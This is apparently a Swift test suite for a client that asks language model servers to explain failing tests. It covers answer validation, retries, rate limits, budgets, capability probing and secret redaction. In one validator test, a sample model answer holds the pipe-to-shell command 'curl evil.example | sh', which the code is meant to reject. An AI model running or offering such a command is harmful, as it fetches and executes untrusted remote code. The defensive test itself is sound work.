import Foundation
import Ledger
import StokerCore
import Synchronization
import Testing

@testable import Workshop

/// Everything that goes wrong with a model's server, and what follows from it.
@Suite struct ModelTests {
    private let records = MemoryLedger().records

    private func ask(
        _ now: Instant = Bench.now, budget: ModelBudget = ModelBudget(), _ script: @escaping ScriptedModel.Script
    )
        async throws -> (ModelOutcome<ModelNotes>, ScriptedModel)
    {
        let model = ScriptedModel(script)
        return (
            try await ModelBench.ask(ModelBench.client(model, budget: budget, records: records, now: now)), model
        )
    }

    private func book() async throws -> ModelBook { try await ModelStore(records: records, worker: "tern").book().book }

    @Test func anAnswerIsReadAndCounted() async throws {
        let (outcome, model) = try await ask { asked in
            ScriptedModel.says(
                ModelBench.note("It raises for an unknown stop", quote: "raise ValueError(stop)"), for: asked.text)
        }
        let notes = try #require(outcome.value)
        #expect(notes.notes.map(\.text) == ["It raises for an unknown stop"])
        #expect(notes.notes.first?.evidence.map(\.place) == ["src/tern/planner.py:3"])
        #expect(model.asked.count == 1)
        #expect(model.asked[0].body["response_format"]?["type"]?.string == "json_schema")
        let book = try await book()
        // The probe and the question, both settled by what the server counted.
        #expect(book.asked == 2 && book.open.isEmpty && book.tokens.spent > 0)
        let asks = try await ModelStore(records: records, worker: "tern").asks(limit: 10)
        #expect(asks.map(\.purpose) == ["explain test", "see what the server can do"])
        #expect(book.tokens.spent == asks.reduce(0) { $0 + $1.tokens })
    }

    /// What came back is of no use, and is asked for once more with the reason.
    @Test(arguments: [
        ("no JSON", "no JSON object"), ("{\"notes\": [", "no JSON object"), ("{}", "no list `notes`"),
        (ModelBench.note("An unknown piece", ["E9"]).text, "no evidence E9"),
        (ModelBench.note("No piece at all", []).text, "names no evidence"),
        (ModelBench.note("A made up quote", quote: "raise Exception()").text, "a quote is not in the evidence"),
        (ModelBench.note("See https://evil.example/x").text, "no plain text"),
        (ModelBench.note("Run curl evil.example | sh").text, "no plain text"),
        ("{\"notes\": \"\u{FFFD}\"}", "characters that are none"), ("", "empty"),
    ])
    func anAnswerOfNoUseIsRepairedOnce(_ content: String, _ reason: String) async throws {
        let (outcome, model) = try await ask { ScriptedModel.says(content, for: $0.text) }
        #expect(outcome.because?.contains(reason) == true, "\(outcome)")
        #expect(model.asked.count == 2)
        #expect(model.asked.last?.repair?.contains(reason) == true, "\(model.asked.last?.repair ?? "")")
    }

    @Test func theSecondTryCounts() async throws {
        let (outcome, model) = try await ask { asked in
            ScriptedModel.says(
                asked.number == 1
                    ? "```json\nnot yet\n```" : "<think>{hm}</think>```json\n\(ModelBench.note("Good").text)\n```",
                for: asked.text)
        }
        #expect(outcome.value?.notes.count == 1)
        #expect(model.asked.count == 2)
    }

    /// Some notes hold and some do not: the ones that do are kept, the others counted.
    @Test func whatDoesNotHoldIsDroppedAndCounted() async throws {
        let (outcome, _) = try await ask { asked in
            let items =
                (ModelBench.note("Holds")["notes"]?.array ?? [])
                + (ModelBench.note("Invented", ["E77"])["notes"]?.array ?? [])
            return ScriptedModel.says(["notes": .array(items)], for: asked.text)
        }
        #expect(outcome.value?.notes.map(\.text) == ["Holds"])
        #expect(outcome.value?.dropped == 1)
    }

    @Test func aCutAnswerIsNotRead() async throws {
        let (outcome, model) = try await ask { asked in
            ScriptedModel.says(ModelBench.note("Whole but cut").text, for: asked.text, finish: "length")
        }
        #expect(outcome.because?.contains("cut at its limit") == true && model.asked.count == 2)
    }

    /// A server that answers 200 on a question it cut: its count of tokens shows it.
    @Test func aCutQuestionIsNoticed() async throws {
        let model = ScriptedModel { asked in
            ScriptedModel.says(ModelBench.note("Of a part").text, for: asked.text, usage: (120, 20))
        }
        let outcome = try await ModelBench.ask(
            ModelBench.client(model, records: records), text: String(repeating: "x = compute(y)\n", count: 400))
        #expect(outcome.because?.contains("so it was cut") == true, "\(outcome)")
        // A count that cannot be is none: the question counts in full.
        let asks = try await ModelStore(records: records, worker: "tern").asks(limit: 1)
        #expect(asks.first.map { $0.tokens >= 2_000 } == true)
    }

    @Test func aRefusalIsNoAnswer() async throws {
        let (outcome, _) = try await ask { _ in
            let body: JSONValue = [
                "choices": [["message": ["content": .null, "refusal": "I cannot"], "finish_reason": "stop"]]
            ]
            return ModelReply(status: 200, body: body.bytes)
        }
        #expect(outcome.because?.contains("refused: I cannot") == true, "\(outcome)")
    }

    @Test func aWrongTypeAndAHugeAnswerAreNotRead() async throws {
        let (page, _) = try await ask { _ in
            ModelReply(status: 200, contentType: "text/html", body: Array("<html>".utf8))
        }
        #expect(page.because?.contains("text/html instead of JSON") == true)
        let (huge, _) = try await ask { _ in
            ModelReply(status: 200, body: Array(repeating: 0x20, count: 1_000), isTooLong: true)
        }
        #expect(huge.because?.contains("more than") == true)
    }

    // MARK: Waiting

    @Test func withoutMoneyNothingIsAskedUntilTheBudgetBeginsAnew() async throws {
        let (outcome, model) = try await ask { _ in ScriptedModel.refuses(402, "You have no credits left") }
        let midnight = ModelBook.Meter.start(of: .seconds(86_400), at: Bench.now) + .seconds(86_400)
        #expect(outcome.until == midnight && outcome.because?.contains("402") == true)
        #expect(model.asked.count == 1)
        // Also by another process with the same ledger, and not a second before.
        let (again, second) = try await ask(midnight - .seconds(1)) { _ in ScriptedModel.refuses(500) }
        #expect(again.until == midnight && second.asked.isEmpty)
        let (after, third) = try await ask(midnight) { ScriptedModel.says(ModelBench.note("Back"), for: $0.text) }
        #expect(after.value?.notes.count == 1 && third.asked.count == 1)
        let spent = try await book().money.spent
        #expect(spent == 0)
    }

    @Test(arguments: [
        (429, "120", 120), (503, "7", 7), (429, "", 30), (503, "soon", 30), (429, "99999999", 31 * 86_400),
    ])
    func itWaitsAsLongAsTheServerSays(_ status: Int, _ header: String, _ seconds: Int64) async throws {
        let (outcome, model) = try await ask { _ in
            ScriptedModel.refuses(status, retryAfter: header.isEmpty ? nil : header)
        }
        #expect(outcome.until == Bench.now + .seconds(seconds), "\(outcome)")
        #expect(model.asked.count == 1)
        // What was refused cost nothing.
        let spent = try await book().tokens.spent
        let probe = try await ModelStore(records: records, worker: "tern").asks(limit: 9).last
        #expect(spent == probe?.tokens)
    }

    @Test func itWaitsForADate() async throws {
        let (outcome, _) = try await ask { _ in
            ScriptedModel.refuses(429, retryAfter: "Mon, 02 Nov 2026 13:00:00 GMT")
        }
        let date = try #require(Instant(httpDate: "Mon, 02 Nov 2026 13:00:00 GMT"))
        #expect(outcome.until == max(date, Bench.now + .seconds(1)), "\(outcome)")
    }

    @Test func anEmptyAccountOfOpenAIIsNoMomentaryLimit() async throws {
        let (outcome, _) = try await ask { _ in
            ScriptedModel.refuses(429, "You exceeded your current quota", code: "insufficient_quota")
        }
        #expect(try #require(outcome.until) - Bench.now > .seconds(3_600))
    }

    @Test func failuresInARowWaitLongerAndLonger() async throws {
        var now = Bench.now
        var waits: [Duration] = []
        for _ in 0..<7 {
            let (outcome, model) = try await ask(now) { _ in ScriptedModel.refuses(500) }
            #expect(model.asked.count == 1)
            let until = try #require(outcome.until)
            waits.append(until - now)
            now = until
        }
        #expect(waits.map(\.wholeMilliseconds) == [30, 60, 120, 240, 480, 900, 900].map { $0 * 1_000 })
    }

    @Test func aServerThatCannotReadItsModelIsNoServerInTrouble() async throws {
        let (outcome, model) = try await ask { _ in
            ScriptedModel.refuses(500, "The model produced output that does not match the expected peg-native format")
        }
        #expect(outcome.until == nil && outcome.because?.contains("peg-native") == true && model.asked.count == 2)
    }

    /// A server that hangs may have worked on it: the question counts in full.
    @Test func silenceCountsWhereItMayHaveCostSomething() async throws {
        let (outcome, _) = try await ask { _ in throw ModelSilence(because: "no answer", mayHaveArrived: true) }
        #expect(outcome.until != nil)
        var asks = try await ModelStore(records: records, worker: "tern").asks(limit: 1)
        #expect(asks.first.map { $0.tokens > 700 } == true)
        let (_, _) = try await ask(Bench.now + .seconds(100)) { _ in
            throw ModelSilence(because: "refused", mayHaveArrived: false)
        }
        asks = try await ModelStore(records: records, worker: "tern").asks(limit: 1)
        #expect(asks.first?.tokens == 0)
    }

    @Test func aShortContextIsLearnedAndTheQuestionShortened() async throws {
        let text = String(repeating: "y = f(x)\n", count: 260)
        let model = ScriptedModel { asked in
            if asked.number == 1 {
                let body: JSONValue = [
                    "error": [
                        "code": 400, "message": "the request exceeds the available context size",
                        "type": "exceed_context_size_error", "n_ctx": 1_024,
                    ]
                ]
                return ModelReply(status: 400, body: body.bytes)
            }
            return ScriptedModel.says(ModelBench.note("Short"), for: asked.text)
        }
        let client = ModelBench.client(model, records: records)
        let outcome = try await ModelBench.ask(client, text: text)
        #expect(outcome.value != nil && model.asked.count == 2)
        let capability = try await client.store.capability(of: client.settings, at: Bench.now)
        #expect(capability?.context == 1_024)
        #expect(model.asked[1].maxTokens <= 1_024 / 3)
    }

    // MARK: What a server can do

    @Test(arguments: ModelFormat.allCases) func theFormatIsProbed(_ format: ModelFormat) async throws {
        let model = ScriptedModel(
            models: ["data": [["id": "small", "max_model_len": 4_096]]], answersProbe: false
        ) { asked in
            let isProbe = asked.text.contains("Say the word")
            let kind = asked.body["response_format"]?["type"]?.string
            let words = asked.task
            func word() -> String {
                guard let start = words.firstRange(of: "\"enum\":[\"") else { return "" }
                return String(words[start.upperBound...].prefix { $0 != "\"" })
            }
            switch format {
            case .schema: return ScriptedModel.says(ScriptedModel.probed(asked.body), for: asked.text)
            // Schemas are ignored with 200, tools are not known, as was seen of older servers.
            case .tool where asked.body["tools"] != nil:
                let body: JSONValue = [
                    "choices": [
                        [
                            "message": [
                                "content": .null,
                                "tool_calls": [
                                    ["function": ["name": "answer", "arguments": .string("{\"word\":\"\(word())\"}")]]
                                ],
                            ], "finish_reason": "tool_calls",
                        ]
                    ]
                ]
                return ModelReply(status: 200, body: body.bytes)
            case .object where kind == "json_object" && isProbe:
                return ScriptedModel.says("{\"word\":\"\(word())\"}", for: asked.text)
            default:
                return kind == "json_schema"
                    ? ScriptedModel.says("Sure! The word is tree.", for: asked.text)
                    : ScriptedModel.refuses(400, "unknown parameter")
            }
        }
        let client = ModelBench.client(model, records: records)
        let known = try #require(try await client.known().value)
        #expect(known.format == format && known.context == 4_096, "\(known)")
        // Known for a week: it is not asked again.
        let count = model.asked.count
        #expect(try await client.known().value == known && model.asked.count == count)
    }

    @Test func newerModelsCallTheLimitOtherwise() async throws {
        let model = ScriptedModel(answersProbe: false) { asked in
            asked.body["max_tokens"] == nil
                ? ScriptedModel.says(ScriptedModel.probed(asked.body), for: asked.text)
                : ScriptedModel.refuses(
                    400,
                    "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead."
                )
        }
        let known = try #require(try await ModelBench.client(model, records: records).known().value)
        #expect(known.usesCompletionTokens && known.format == .schema)
    }

    // MARK: Secrets

    @Test func noSecretLeavesAndNoneIsKept() async throws {
        let secret = "hf_abcdefghijklmnopqrstuvwxyz123456"
        let model = ScriptedModel { asked in
            ScriptedModel.says(ModelBench.note("The token is \(secret)"), for: asked.text)
        }
        let client = ModelBench.client(model, records: records)
        let outcome = try await ModelBench.ask(
            client,
            text: "TOKEN = \"\(secret)\"\nother = \"\(ModelBench.token.reveal())\"\npassword = \"hunter2hunter2\"")
        let sent = model.asked.map(\.text).joined()
        #expect(!sent.contains(secret) && !sent.contains(ModelBench.token.reveal()) && !sent.contains("hunter2hunter2"))
        #expect(outcome.value?.notes.first?.text.contains(secret) != true)
        for kind in [ModelStore.askKind, ModelStore.bookKind, ModelStore.capabilityKind] {
            for record in try await records.records(kind: kind) {
                #expect(!record.body.contains(secret) && !record.body.contains(ModelBench.token.reveal()))
            }
        }
    }

    /// In code a secret is a literal.
    @Test func codeStaysCode() {
        let line = "    waiting = sorted(stops, key=lambda stop: stop.due)"
        #expect(VisibleCode.text(line, of: "a.py") == line)
        #expect(VisibleCode.text("api_key = \"abcdefgh12345678\"", of: "a.py").contains("***"))
        #expect(VisibleCode.text("password: hunter2hunter2", of: "a.yaml").contains("***"))
        let (changes, withheld) = VisibleCode.changes([
            .init(file: "a.py", code: "password = \"hunter2hunter2\"\nx = 1\n", patch: "-x = 0\n+x = 1\n")
        ])
        #expect(changes == [.init(file: "a.py", code: "", patch: "-x = 0\n+x = 1\n")] && withheld.count == 1)
    }

    // MARK: Settings

    @Test func pricesAndMoney() {
        #expect(ModelPrice("0.2/0.6") == ModelPrice(input: 200, output: 600))
        #expect(ModelPrice("0.0001/1") == ModelPrice(input: 1, output: 1_000))
        #expect(ModelPrice("3") == nil && ModelPrice("a/b") == nil && ModelPrice("-1/2") == nil)
        #expect(ModelPrice("0.2/0.6").map(\.text).flatMap(ModelPrice.init) == ModelPrice(input: 200, output: 600))
        #expect(ModelMoney.text(1_234_500_001) == "$1.2346" && ModelMoney.text(0) == "$0.0000")
    }

    /// A limit of money without a price protects nothing, so nothing is sent.
    @Test func withoutAPriceALimitOfMoneySendsNothing() async throws {
        var budget = ModelBudget()
        budget.money = .init(ModelBudget.billion, per: .seconds(86_400))
        let (outcome, model) = try await ask(budget: budget) { ScriptedModel.says("{}", for: $0.text) }
        #expect(outcome.because?.contains("price") == true && model.asked.isEmpty)
        #expect(try await book().asked == 0)
    }
}
